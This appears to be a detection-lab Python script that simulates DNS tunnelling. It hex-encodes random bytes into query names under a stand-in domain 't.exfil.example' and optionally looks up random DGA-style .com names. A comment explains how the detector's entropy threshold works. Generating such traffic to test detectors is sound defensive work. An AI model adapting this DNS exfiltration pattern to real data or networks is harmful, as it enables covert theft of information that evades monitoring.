#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Sends data hex-encoded in DNS query names under --domain to --server, as DNS tunnels
(iodine, dnscat) do. For the detection lab only."""
import argparse
import os
import random
import socket
import struct

parser = argparse.ArgumentParser()
parser.add_argument("--server", required=True)
parser.add_argument("--domain", default="t.exfil.example")
parser.add_argument("--queries", type=int, default=80)
parser.add_argument("--dga", type=int, default=0, help="also look up this many random .com names")
parser.add_argument("--seed", type=int, default=3,
                    help="seeds the generated names, so that every run sends the same ones")
args = parser.parse_args()
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.settimeout(0.2)
for index in range(args.queries):
    label = os.urandom(24).hex()  # 48 characters of "data"
    name = "%s.%d.%s" % (label, index, args.domain)
    question = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0"
    packet = struct.pack("!HHHHHH", index, 0x0100, 1, 0, 0, 0) + question + struct.pack("!HH", 16, 1)
    sock.sendto(packet, (args.server, 53))
    try:
        sock.recv(512)
    except socket.timeout:
        pass
# A generated name whose letters repeat too often is not "random-looking" to the detector (its
# entropy stays under 3 bits): about one in seven of these 14-letter names. A fixed seed keeps the
# lab's outcome the same on every run (seed 3: 14 of the first 16 names count).
LETTERS = "bcdfghjklmnpqrstvwxz"
generator = random.Random(args.seed)
for index in range(args.dga):
    name = "".join(generator.choice(LETTERS) for _ in range(14)) + ".com"
    question = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0"
    sock.sendto(struct.pack("!HHHHHH", 1000 + index, 0x0100, 1, 0, 0, 0) + question +
                struct.pack("!HH", 1, 1), (args.server, 53))
    try:
        sock.recv(512)
    except socket.timeout:
        pass
print("queries:", args.queries, "generated names:", args.dga)
